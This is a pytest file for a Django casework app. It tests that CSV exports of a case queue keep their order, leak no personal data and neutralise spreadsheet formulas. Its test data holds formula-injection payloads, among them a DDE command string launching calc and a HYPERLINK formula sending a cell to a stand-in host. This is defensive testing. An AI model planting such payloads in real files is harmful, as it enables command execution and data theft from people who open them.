"""Lists as CSV: whole, in the order of the queue, harmless to a spreadsheet, and without personal data."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from almoner import casework
from almoner.casework.core.spreadsheet import MARK, lines
from almoner.casework.models import Case
from almoner.spreadsheet import harmless
from casework.conftest import NAME, NUMBER, PHONE
from casework.makers import Outbox, words

SignIn = Callable[[User], Client]
STARTS = "=+-@\t\r\n＝＋－＠"


def read(text: str) -> list[list[str]]:
    assert text.startswith(MARK)
    return list(csv.reader(io.StringIO(text.removeprefix(MARK), newline="")))


def export(client: Client, **chosen: str) -> list[list[str]]:
    answer = client.get(reverse("queue-export"), chosen)
    assert answer.status_code == 200
    return read(b"".join(answer.streaming_content).decode("utf-8"))  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "  =1",
        " \t=1",
        "=",
        '=cmd|"/C calc"!A0',
    ],
)
def test_what_a_spreadsheet_would_compute_has_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", " ", "a=1", "5-2", "柳树村", "2026-11-06 16:00", "'=1", "x@y"])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert harmless(cell) == cell


@given(
    st.lists(st.lists(st.text(st.characters(exclude_categories=("Cs",))), min_size=2, max_size=4), max_size=5)
)
def test_every_cell_comes_back_and_none_begins_a_formula(rows: list[list[str]]) -> None:
    found = read("".join(lines(["a", "b"], rows)))
    assert found[0] == ["a", "b"]
    assert found[1:] == [[harmless(cell) for cell in row] for row in rows]
    assert not [cell for row in found for cell in row if cell.lstrip(" ")[:1] in set(STARTS)]


@pytest.fixture
def county(vault_with_mei: None, worker: User, outbox: Outbox) -> None:
    casework.sync_areas(
        [
            ("5201", words("County", "县"), None),
            ("520101", words("=Long Township", "＝龙镇"), "5201"),
            ("520102", words('@Lake, "the" Town', "湖镇，“旧”"), "5201"),
        ]
    )
    evil = words('=HYPERLINK("http://x/?"&A1)', "+收入骤降")
    casework.apply(
        [
            [
                outbox.signal(1, signal="odd", label=evil),
                outbox.signal(2, area="520102", signal="silent"),
                outbox.proposal(1),
                outbox.signal(3, area="5299"),
            ]
        ]
    )
    worker.last_name = "-1+1"
    worker.first_name = ""
    worker.save()
    Case.objects.filter(household_id=1).update(assignee=worker)


@pytest.mark.django_db
def test_the_file_is_the_list_in_its_order(county: None, worker: User, signed_in: SignIn) -> None:
    client = signed_in(worker)
    for chosen in ({}, {"list": "mine"}, {"list": "all"}, {"area": "520102"}, {"list": "ended"}):
        page = client.get(reverse("queue"), chosen)
        rows = export(client, **chosen)
        assert [row[1] for row in rows[1:]] == [row.case.reference for row in page.context["rows"]]


@pytest.mark.django_db
def test_what_names_say_is_no_formula(county: None, worker: User, signed_in: SignIn) -> None:
    rows = {row[1]: row for row in export(signed_in(worker), list="all")}
    row = rows[Case.objects.get(household_id=1).reference]
    assert (row[2], row[4], row[6]) == ("'=Long Township", '\'=HYPERLINK("http://x/?"&A1)', "'-1+1")
    assert rows[Case.objects.get(household_id=2).reference][2] == '\'@Lake, "the" Town'


@pytest.mark.django_db
def test_it_is_in_chinese_and_opens_as_such(county: None, worker: User, signed_in: SignIn) -> None:
    client = signed_in(worker)
    client.cookies["django_language"] = "zh-hans"
    rows = export(client, list="all")
    assert "个案" in rows[0]
    assert {"'＝龙镇", "湖镇，“旧”"} <= {row[2] for row in rows}
    assert "'+收入骤降" in {row[4] for row in rows}


@pytest.mark.django_db
def test_it_holds_no_personal_data_and_nothing_of_others(
    county: None, worker: User, strangers: list[User], signed_in: SignIn
) -> None:
    rows = export(signed_in(worker), list="all")
    text = " ".join(cell for row in rows for cell in row)
    assert not [secret for secret in (NAME, NUMBER, PHONE, "812.5", "1,702.5") if secret in text]
    assert len(rows) == 3
    assert all(len(row) == len(rows[0]) == 7 for row in rows)
    other = Case.objects.get(area="5299")
    assert other.reference not in text
    elsewhere, *rest = strangers
    assert [row[1] for row in export(signed_in(elsewhere), list="all")[1:]] == [other.reference]
    assert export(signed_in(rest[0]), list="all")[1:] == []
    for user in rest[1:]:
        assert signed_in(user).get(reverse("queue-export")).status_code == 404


@pytest.mark.django_db
def test_a_long_list_is_read_a_part_at_a_time(
    county: None, worker: User, outbox: Outbox, signed_in: SignIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("almoner.casework.views.queue.AT_ONCE", 7)
    casework.apply([[outbox.signal(h) for h in range(10, 60)]])
    rows = export(signed_in(worker), list="all")
    assert len({row[1] for row in rows[1:]}) == len(rows) - 1 == 52
